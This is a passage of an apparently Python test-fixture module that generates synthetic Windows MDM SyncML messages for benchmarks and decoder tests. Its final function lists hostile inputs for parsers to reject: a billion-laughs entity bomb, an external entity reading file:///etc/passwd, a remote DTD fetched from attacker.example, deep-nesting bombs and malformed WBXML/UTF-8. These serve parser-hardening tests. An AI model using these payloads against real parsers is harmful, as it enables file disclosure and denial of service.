    Size: about 5.4 KB per app (the LocURIs alone are ~165 bytes per item), so 300 apps come
    to about 1.6 MB and ``apps=190`` to about 1.0 MB.
    """
    rng = random.Random(0x5EED)
    root = "./Device/Vendor/MSFT/EnterpriseModernAppManagement/AppManagement"
    node = {"Format": "node"}
    items = [
        _item(source=root, meta=node),
        _item(
            source=f"{root}/LastScanError", meta={"Format": "int", "Type": "text/plain"}, data="0"
        ),
    ]
    vendor_hash = {vendor: _publisher_hash(rng) for vendor in _VENDORS}
    users = [
        f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-"
        f"{rng.randrange(10**8, 10**9)}-{1000 + n}"
        for n in range(4)
    ]
    by_category: dict[str, list[str]] = {category: [] for category in _CATEGORIES}
    seen: set[str] = set()
    for number in range(apps):
        category = _CATEGORIES[0 if number % 5 < 2 else (1 if number % 5 == 2 else 2)]
        vendor = "Microsoft" if category == "System" else rng.choice(_VENDORS)
        name = f"{vendor}.{rng.choice(_WORDS)}{rng.choice(_WORDS)}"
        while name in seen:
            name += rng.choice(_WORDS)
        seen.add(name)
        publisher_hash = vendor_hash[vendor]
        version = f"{rng.randrange(1, 12)}.{rng.randrange(0, 2400)}.{rng.randrange(0, 200)}.0"
        arch, arch_code = rng.choice(_ARCH)
        family = f"{name}_{publisher_hash}"
        full = f"{name}_{version}_{arch}__{publisher_hash}"
        framework = "1" if rng.random() < 0.1 else "0"
        if category == "System":
            location = f"C:\\Windows\\SystemApps\\{family}"
        else:
            location = f"C:\\Program Files\\WindowsApps\\{full}"
        installed = (
            f"{rng.randrange(2021, 2025)}-{rng.randrange(1, 13):02d}-{rng.randrange(1, 29):02d} "
            f"{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}"
        )
        user_list = " ".join(f"{sid}(Installed)" for sid in rng.sample(users, rng.randrange(1, 3)))
        values = {
            "Name": name,
            "Version": version,
            "Publisher": f"CN={vendor} Corporation, O={vendor} Corporation, C=US",
            "Architecture": arch_code,
            "InstallLocation": location,
            "IsFramework": framework,
            "IsBundle": "1" if rng.random() < 0.2 else "0",
            "InstallDate": installed,
            "ResourceID": "",
            "RequiresReinstall": "0",
            "PackageStatus": "0",
            "Users": user_list,
            "IsProvisioned": "1" if category != "System" and rng.random() < 0.3 else "0",
            "IsStub": "0",
        }
        base = f"{root}/{category}/{family}"
        app_items = [_item(source=base, meta=node), _item(source=f"{base}/{full}", meta=node)]
        for leaf in _APP_LEAVES:
            fmt = "int" if leaf in _INT_LEAVES else "chr"
            app_items.append(
                _item(
                    source=f"{base}/{full}/{leaf}",
                    meta={"Format": fmt, "Type": "text/plain"},
                    data=values[leaf],
                )
            )
        by_category[category].extend(app_items)
    for category in _CATEGORIES:
        items.append(_item(source=f"{root}/{category}", meta=node))
        items.extend(by_category[category])
    body = [
        _hdr_status(1, 2, "200", to_server=True),
        _status(2, 2, 3, "Get", "200"),
        _cmd("Results", 3, _leaf("MsgRef", "2"), _leaf("CmdRef", "3"), *items),
    ]
    return _message(body, from_device=True, session="9", msg_id="2")


# --- a realistic mid-session device message ----------------------------------------------

_SESSION_GETS = (
    ("./DevDetail/SwV", "chr", "10.0.22631.3447"),
    ("./DevDetail/FwV", "chr", "1.21.0"),
    ("./DevDetail/HwV", "chr", "A04"),
    ("./DevDetail/OEM", "chr", "Dell Inc."),
    ("./DevDetail/Ext/Microsoft/DeviceName", "chr", "CONTOSO-LT-0042"),
    ("./DevDetail/Ext/Microsoft/OSPlatform", "chr", "Windows 11 Enterprise"),
    ("./DevDetail/Ext/Microsoft/TotalRAM", "int", "16384"),
    ("./DevDetail/Ext/Microsoft/SMBIOSSerialNumber", "chr", "7HX2Q43"),
    ("./Vendor/MSFT/DeviceStatus/Compliance/EncryptionCompliance", "int", "1"),
    ("./Vendor/MSFT/DeviceStatus/Antivirus/Status", "int", "0"),
    ("./Vendor/MSFT/DeviceStatus/Firewall/Status", "int", "0"),
    ("./Vendor/MSFT/DeviceStatus/TPM/SpecificationVersion", "chr", "2.0"),
    ("./Device/Vendor/MSFT/Policy/Result/Update/ActiveHoursStart", "int", "8"),
    ("./Vendor/MSFT/WindowsLicensing/Edition", "int", "4"),
)


def _session_outcome(cmd_ref: int) -> tuple[str, str, str]:
    """The command the server sent as `cmd_ref`, and the status code the device gives it."""
    plan = ("Get", "Replace", "Replace", "Get", "Add", "Exec", "Get", "Delete", "Replace", "Get")
    cmd = plan[cmd_ref % len(plan)]
    if cmd_ref % 13 == 0:
        return cmd, "500", ' msft:originalerror="0x80070057"'
    if cmd_ref % 11 == 0:
        return cmd, "404" if cmd in ("Get", "Delete") else "405", ""
    if cmd == "Add" and cmd_ref % 3 == 0:
        return cmd, "418", ""
    return cmd, "202" if cmd == "Exec" else "200", ""


def session_message() -> bytes:
    """A device message in the middle of a session, about 23 KB.

    Status for the server's SyncHdr and its 40 commands (Get, Replace, Add, Exec, Delete; some
    failed, with msft:originalerror), Results after each successful Get (one carrying XML as
    text, one a base64 certificate sized to bring the message to about 23 KB), and two
    generic alerts.
    """
    policy_xml = (
        '<enabled/><data id="ExecutionPolicy" value="RemoteSigned"/>'
        '<data id="Listbox_ModuleNames" value="Microsoft.PowerShell.*&#xF000;Contoso.*"/>'
    )
    uninstall = "Reversed-Domain-Name:com.microsoft.mdm.EnterpriseAppUninstall.result"

    def build(cert: str) -> bytes:
        ids = itertools.count(2)
        gets = iter(_SESSION_GETS)
        body = [_hdr_status(1, 3, "200", to_server=True)]
        for cmd_ref in range(2, 42):
            cmd, code, attrs = _session_outcome(cmd_ref)
            body.append(_status(next(ids), 3, cmd_ref, cmd, code, data_attrs=attrs))
            if cmd != "Get" or code != "200":
                continue
            if cmd_ref == 9:
                uri, fmt, value = (
                    "./Device/Vendor/MSFT/Policy/Result/WindowsPowerShell/TurnOnModuleLogging",
                    "chr",
                    policy_xml,
                )
            elif cmd_ref == 19:
                uri, fmt, value = "./Vendor/MSFT/HealthAttestation/Certificate", "b64", cert
            else:
                uri, fmt, value = next(gets)
            body.append(
                _cmd(
                    "Results",
                    next(ids),
                    _leaf("MsgRef", "3"),
                    _leaf("CmdRef", str(cmd_ref)),
                    _item(source=uri, meta={"Format": fmt, "Type": "text/plain"}, data=value),
                )
            )
        hosted = f"{_APPINSTALL}/Contoso.Expenses_a1b2c3d4e5f6g/HostedInstall"
        removed = (
            "./User/Vendor/MSFT/EnterpriseModernAppManagement/AppManagement/"
            "Fabrikam.Notes_x8kq2mzv0b1rw"
        )
        body.append(
            _alert(
                next(ids),
                "1226",
                _item(source=hosted, meta={"Type": _HOSTED_RESULT, "Format": "int"}, data="0"),
            )
        )
        body.append(
            _alert(
                next(ids),
                "1226",
                _item(source=removed, meta={"Type": uninstall, "Format": "int"}, data="0"),
            )
        )
        return _message(
            body, from_device=True, session="2F", msg_id="4", root_attrs=f' xmlns:msft="{MSFT_NS}"'
        )

    blob = base64.b64encode(random.Random(23).randbytes(16_384)).decode()
    room = 23_000 - len(build(""))
    return build(blob[: max(0, room - room % 4)])


# --- the encode benchmark ----------------------------------------------------------------


def response_commands(n: int = 50) -> dict[str, Any]:
    """A server response with `n` commands, as a dict (docs/syncml.md), for encode benchmarks.

    Status for the SyncHdr and the device's three commands, then Get / Replace / Exec / Add /
    Delete in turn, with Meta and Data (including XML carried as text) until `n` commands.
    """
    if n < 4:
        raise ValueError("a response has at least the 4 statuses")
    body: list[dict[str, Any]] = [
        {
            "Status": {
                "CmdID": "1",
                "MsgRef": "1",
                "CmdRef": "0",
                "Cmd": "SyncHdr",
                "TargetRef": [SERVER_URL],
                "SourceRef": [DEVICE_ID],
                "Data": "212",
            }
        }
    ]
    for cmd_ref, cmd in ((2, "Alert"), (3, "Alert"), (4, "Replace")):
        body.append(
            {
                "Status": {
                    "CmdID": str(len(body) + 1),
                    "MsgRef": "1",
                    "CmdRef": str(cmd_ref),
                    "Cmd": cmd,
                    "Data": "200",
                }
            }
        )
    policy = "./Device/Vendor/MSFT/Policy/Config"
    kinds = itertools.cycle(("Get", "Replace", "Exec", "Add", "Delete"))
    while len(body) < n:
        number = len(body) + 1
        kind = next(kinds)
        app = f"Contoso.App{number:03d}_a1b2c3d4e5f6g"
        item: dict[str, Any]
        if kind == "Get":
            fields: dict[str, Any] = {
                "Item": [
                    {"Target": {"LocURI": "./DevDetail/SwV"}},
                    {"Target": {"LocURI": f"{_APPINSTALL}/{app}/Status"}},
                ]
            }
        elif kind == "Replace":
            item = {
                "Target": {"LocURI": f"{policy}/DeviceLock/MaxInactivityTimeDeviceLock"},
                "Meta": {"Format": "int", "Type": "text/plain"},
                "Data": str(number % 15 + 1),
            }
            text = {
                "Target": {"LocURI": f"{policy}/Browser/HomePages"},
                "Meta": {"Format": "chr", "Type": "text/plain"},
                "Data": f"<https://intranet.contoso.com/?team={number}&lang=en>",
            }
            fields = {"Item": [item, text]}
        elif kind == "Exec":
            fields = {
                "Item": [
                    {
                        "Target": {"LocURI": f"{_APPINSTALL}/{app}/HostedInstall"},
                        "Meta": {"Format": "xml"},
                        "Data": (
                            f'<Application PackageUri="https://cdn.contoso.com/apps/{app}.msix'
                            f'?sv=2024-05-04&amp;sig=Zm9v{number}" DeploymentOptions="0">'
                            '<Dependencies><Dependency PackageUri="https://cdn.contoso.com/'
                            'fw/Microsoft.VCLibs.x64.14.00.appx"/></Dependencies></Application>'
                        ),
                    }
                ]
            }
        elif kind == "Add":
            fields = {
                "Item": [
                    {
                        "Target": {"LocURI": f"{_APPINSTALL}/{app}"},
                        "Meta": {"Format": "node"},
                    }
                ]
            }
        else:
            fields = {
                "Item": [
                    {
                        "Target": {
                            "LocURI": "./User/Vendor/MSFT/EnterpriseModernAppManagement/"
                            f"AppManagement/AppStore/{app}"
                        }
                    }
                ]
            }
        body.append({kind: {"CmdID": str(number), **fields}})
    return {
        "SyncHdr": {
            "VerDTD": "1.2",
            "VerProto": "DM/1.2",
            "SessionID": "1",
            "MsgID": "1",
            "Target": {"LocURI": DEVICE_ID},
            "Source": {"LocURI": SERVER_URL},
        },
        "SyncBody": body,
        "Final": True,
    }


# --- hostile inputs ----------------------------------------------------------------------

_WBXML_HEADER = bytes([0x02, 0xA4, 0x01, 0x6A])  # WBXML 1.2, public id 0x1201, UTF-8
_WB_END, _WB_STR_I = 0x01, 0x03
_WB_SYNCML, _WB_SYNCHDR, _WB_VERDTD = 0x6D, 0x6C, 0x71  # tokens with the content bit


def hostile_inputs() -> list[Message]:
    """Inputs every decoder must refuse, quickly and without large allocations."""
    get_swv = _cmd("Get", 2, _item(target="./DevDetail/SwV"))
    valid = _device_package1()
    out: list[Message] = []

    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    out.append(
        (
            "billion_laughs",
            _message(
                [
                    _cmd(
                        "Replace",
                        2,
                        _item(target="./Vendor/MSFT/X", raw_data="<Data>&lol9;</Data>"),
                    )
                ],
                from_device=False,
                prolog=f"<!DOCTYPE SyncML [{''.join(lol)}]>\n",
            ),
        )
    )
    out.append(
        (
            "external_entity",
            _message(
                [
                    _cmd(
                        "Replace", 2, _item(target="./Vendor/MSFT/X", raw_data="<Data>&xxe;</Data>")
                    )
                ],
                from_device=False,
                prolog='<!DOCTYPE SyncML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
            ),
        )
    )
    out.append(
        (
            "parameter_entity",
            _message(
                [get_swv],
                from_device=False,
                prolog="<!DOCTYPE SyncML [<!ENTITY % remote SYSTEM "
                '"http://attacker.example/evil.dtd"> %remote;]>\n',
            ),
        )
    )
    out.append(
        (
            "internal_subset_attlist",
            _message(
                [_status(2, 1, 2, "Alert", "200")],
                from_device=True,
                prolog='<!DOCTYPE SyncML [<!ATTLIST Data originalerror CDATA "0xDEADBEEF">]>\n',
            ),
        )
    )
    depth = 100_000
    prefix = _message([], from_device=False, final=False).split(b"</SyncBody>")[0]
    out.append(
        (
            "deep_nesting",
            prefix
            + b"<Atomic><CmdID>2</CmdID>" * depth
            + b"</Atomic>" * depth
            + b"</SyncBody></SyncML>",
        )
    )
    out.append(
        (
            "deep_nesting_item",
            prefix
            + b"<Replace><CmdID>2</CmdID>"
            + b"<Item>" * depth
            + b"</Item>" * depth
            + b"</Replace></SyncBody></SyncML>",
        )
    )
    out.append(
        (
            "wbxml_1gb_string_table",
            _WBXML_HEADER + bytes([0x84, 0x80, 0x80, 0x80, 0x00]) + b"SyncML\x00",
        )
    )
    out.append(("wbxml_truncated_mb_u_int32", _WBXML_HEADER + bytes([0x84, 0x80])))
    out.append(("wbxml_truncated_public_id", bytes([0x02, 0xA4])))
    out.append(
        (
            "wbxml_truncated_inline_string",
            _WBXML_HEADER + bytes([0x00, _WB_SYNCML, _WB_SYNCHDR, _WB_VERDTD, _WB_STR_I]) + b"1.",
        )
    )
    out.append(
        (
            "wbxml_unknown_tag",
            _WBXML_HEADER + bytes([0x00, _WB_SYNCML, _WB_SYNCHDR, 0x3F, _WB_END, _WB_END, _WB_END]),
        )
    )
    out.append(
        (
            "wbxml_unknown_code_page",
            _WBXML_HEADER + bytes([0x00, _WB_SYNCML, 0x00, 0x07, 0x45, _WB_END, _WB_END]),
        )
    )
    text = valid.rstrip()
    for fraction in (0.1, 0.33, 0.5, 0.9):
        cut = int(len(text) * fraction)
        out.append((f"truncated_xml_{int(fraction * 100)}pct", text[:cut]))
    out.append(("truncated_xml_last_byte", text[:-1]))
    out.append(("truncated_xml_no_root_end", text[: text.rindex(b"</SyncML>")]))
    unicode_msg = dict(shape_messages())["unicode_text"]
    multibyte = next(i for i, byte in enumerate(unicode_msg) if byte >= 0xC0)
    out.append(("truncated_xml_mid_utf8", unicode_msg[: multibyte + 1]))

    def with_data(raw: bytes, name: str) -> Message:
        marker = b"@@DATA@@"
        message = _message(
            [_cmd("Replace", 2, _item(target="./Vendor/MSFT/X", data=marker.decode()))],
            from_device=False,
        )
        return name, message.replace(marker, raw)

    out.append(with_data(b"caf\xe9", "invalid_utf8_latin1_byte"))
    out.append(with_data(b"\xc0\xaf", "invalid_utf8_overlong"))
    out.append(with_data(b"\xed\xa0\x80", "invalid_utf8_surrogate"))
    out.append(with_data(b"\xff\xfe", "invalid_utf8_ff_fe"))
    out.append(with_data(b"&foo;", "undefined_entity"))
    out.append(with_data(b"a\x01b", "control_char_0x01"))
    out.append(with_data(b"&#1;", "control_char_reference"))
    out.append(
        (
            "xml_declaration_utf16",
            b'<?xml version="1.0" encoding="UTF-16"?>\n' + _message([get_swv], from_device=False),
        )
    )
    out.append(("not_syncml_root", b"<Envelope><SyncHdr/><SyncBody/></Envelope>"))
    out.append(("two_roots", valid + valid))
    out.append(("empty", b""))
    return out


if __name__ == "__main__":
    for label, size in (
        ("inventory_results()", len(inventory_results())),
        ("session_message()", len(session_message())),
    ):
        print(f"{label}: {size:,} bytes")
